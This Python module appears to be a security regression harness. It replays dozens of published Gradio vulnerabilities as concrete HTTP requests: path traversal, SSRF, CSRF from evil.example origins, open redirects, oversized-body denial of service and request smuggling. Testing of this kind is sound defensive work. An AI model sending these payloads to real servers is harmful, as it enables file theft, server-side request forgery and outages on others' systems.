"""Holes that earlier versions of Gradio had, each as the request that went through it."""

import json
from typing import Any
from urllib.parse import quote

from .hostile import Arsenal, Attack


def replays(arsenal: Arsenal, session: str) -> list[Attack]:
    """One or more requests a published case."""
    canary, url = str(arsenal.canary), arsenal.urls()[0]
    file = {"path": canary, "meta": {"_type": "gradio.FileData"}}
    remote = {"path": url, "url": url, "meta": {"_type": "gradio.FileData"}}

    def get(case: str, target: str, **headers: str) -> Attack:
        return Attack(case, "GET", target, headers={name.replace("_", "-"): value for name, value in headers.items()})

    def post(case: str, target: str, values: Any, **headers: str) -> Attack:
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        return Attack(case, "POST", target, json.dumps(values).encode(), sent)

    def component(case: str, function: str, data: Any, number: int | str = 1) -> Attack:
        values = {"component_id": number, "data": data, "fn_name": function, "session_hash": session}
        return post(case, "/gradio_api/component_server", values)

    def join(case: str, data: Any, **more: Any) -> Attack:
        values = {"data": data, "fn_index": 75, "session_hash": session} | more
        return post(case, "/gradio_api/queue/join", values)

    form = b'--b\r\nContent-Disposition: form-data; name="files"; filename="x.html"\r\n\r\n<script>1\r\n--b--\r\n'
    multipart = {"Content-Type": "multipart/form-data; boundary=b"}
    evil = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
    return [
        get("CVE-2023-34239 file", f"/file={canary}"),
        get("CVE-2023-34239 proxy", f"/proxy={url}"),
        get("CVE-2023-51449 traversal", f"/gradio_api/file=../../../../../../../../..{canary}"),
        component("CVE-2023-51449 cache", "make_temp_copy_if_needed", canary),
        get("CVE-2024-0964", f"/gradio_api/file={quote(canary, safe='')}"),
        get("CVE-2024-1183", f"/gradio_api/file={url}"),
        component("CVE-2024-1561", "move_resource_to_block_cache", canary, "1"),
        component("CVE-2024-1561 call", "__init__", [canary], 0),
        Attack("CVE-2024-1727", "POST", "/gradio_api/upload", form, multipart | evil),
        join("CVE-2024-1728", [[file], *[""] * 6]),
        post("CVE-2024-1728 run", "/gradio_api/run/predict", {"data": [file]}),
        post("CVE-2024-1729", "/login", {"username": "a", "password": "b"}),
        get("CVE-2024-2206", f"/gradio_api/proxy={url}", X_Direct_Url=url),
        join("CVE-2024-4325", [[remote], *[""] * 6]),
        join("CVE-2024-4941", [json.dumps(file), *[""] * 6]),
        get("CVE-2024-34510", "/gradio_api/file=\\\\evil\\share\\x"),
        get("CVE-2024-8021", "/gradio_api/file=https://evil.example/"),
        get("CVE-2024-47084", "/config", Origin="http://evil.example", Host="127.0.0.1"),
        get("CVE-2024-47164", f"/gradio_api/file=/tmp/gradio/../..{canary}"),
        post("CVE-2024-47165", "/gradio_api/queue/join", {"data": []}, Origin="null"),
        get("CVE-2024-47166", "/gradio_api/custom_component/textbox/client/component/..%2f..%2froutes.py"),
        join("CVE-2024-47167", [[{**remote, "orig_name": "x"}], *[""] * 6]),
        get("CVE-2024-47168", "/monitoring/summary"),
        get("CVE-2024-47168 page", "/monitoring"),
        join("CVE-2024-47868", [{"path": canary}, *[""] * 6]),
        get("CVE-2024-47870", "/config", X_Forwarded_Host="evil.example", X_Forwarded_Proto="https"),
        Attack("CVE-2024-47872", "POST", "/gradio_api/upload", form, multipart),
        join("CVE-2024-48052", [[{"url": url, "meta": {"_type": "gradio.FileData"}}], *[""] * 6]),
        join("CVE-2024-51751", [[{**file, "orig_name": "train.tsv", "mime_type": "text/plain"}], *[""] * 6]),
        join("CVE-2024-10648", [[{**file, "path": "../../../../tmp/x", "format": "../x"}], *[""] * 6]),
        Attack(
            "CVE-2024-8966", "POST", "/gradio_api/upload", b"--x\r\n" + b"-" * 200_000,
            {"Content-Type": "multipart/form-data; boundary=" + "-" * 3000},
        ),
        join("CVE-2024-10624", ["2024-01-01 " + "0" * 50_000, *[""] * 6]),
        get("CVE-2024-12217", f"/gradio_api/file={canary}::$DATA"),
        get("CVE-2025-23042", f"/gradio_api/file={canary.upper()}"),
        post("CVE-2025-48889", "/gradio_api/run/flag", {"data": [file]}),
        get("CVE-2025-5320", "/config", Origin="http://localhost.evil.example"),
        get("CVE-2026-28414", "/gradio_api/file=/C:/Windows/win.ini"),
        get("CVE-2026-28415", "/login/huggingface?_target_url=https://evil.example"),
        get("CVE-2026-28415 logout", "/logout?_target_url=https://evil.example"),
        get("CVE-2026-28416", f"/gradio_api/proxy={url}?.hf.space"),
        get("CVE-2026-27167", "/login/callback?_target_url=/&code=x"),
        component("FileExplorer", "ls", ["..", "..", ".."]),
        Attack("component upload", "POST", "/gradio_api/component_server", form, multipart),
        get("deep link", f"/gradio_api/deep_link?session_hash={session}"),
        get("reload", "/gradio_api/dev/reload"),
        get("vibe", "/gradio_api/vibe-code"),
        post("vibe write", "/gradio_api/vibe-code", {"code": "import os"}),
        post("vibe edit", "/gradio_api/vibe-edit", {"prompt": "x"}),
        get("history", "/gradio_api/run-history/records/x/y/assets/..%2f..%2fx"),
        post("history", "/gradio_api/run-history/connect", {"bucket": url}),
        post("recording", "/gradio_api/process_recording", file),
        post("stream", f"/gradio_api/stream/{session}", {"data": [file]}),
        get("stream", f"/gradio_api/stream/{session}/1/1/playlist-file"),
        get("token", "/gradio_api/token"),
        get("profiling", "/gradio_api/profiling/traces"),
        post("csrf", "/gradio_api/queue/join", {"data": [], "fn_index": 0, "session_hash": session}, **evil),
        post("csrf text", "/gradio_api/queue/join", {"data": []}, Content_Type="text/plain", Origin="https://evil.example"),
        get("mcp", "/gradio_api/mcp/sse"),
        get("docs", "/docs"),
        Attack("trace", "TRACE", "/"),
        Attack("put", "PUT", f"/gradio_api/file={canary}", b"x"),
        Attack("delete", "DELETE", f"/gradio_api/file={canary}"),
        Attack("smuggled", "POST", "/gradio_api/queue/join", b"0\r\n\r\nGET /class HTTP/1.1\r\n\r\n",
               {"Transfer-Encoding": "chunked"}),
        Attack("absolute", "GET", f"http://{arsenal.listener}/"),
        Attack("no path", "GET", "*"),
        Attack("spoilt", "GET", b"/\xff\xfe\x01"),
    ]  # fmt: skip
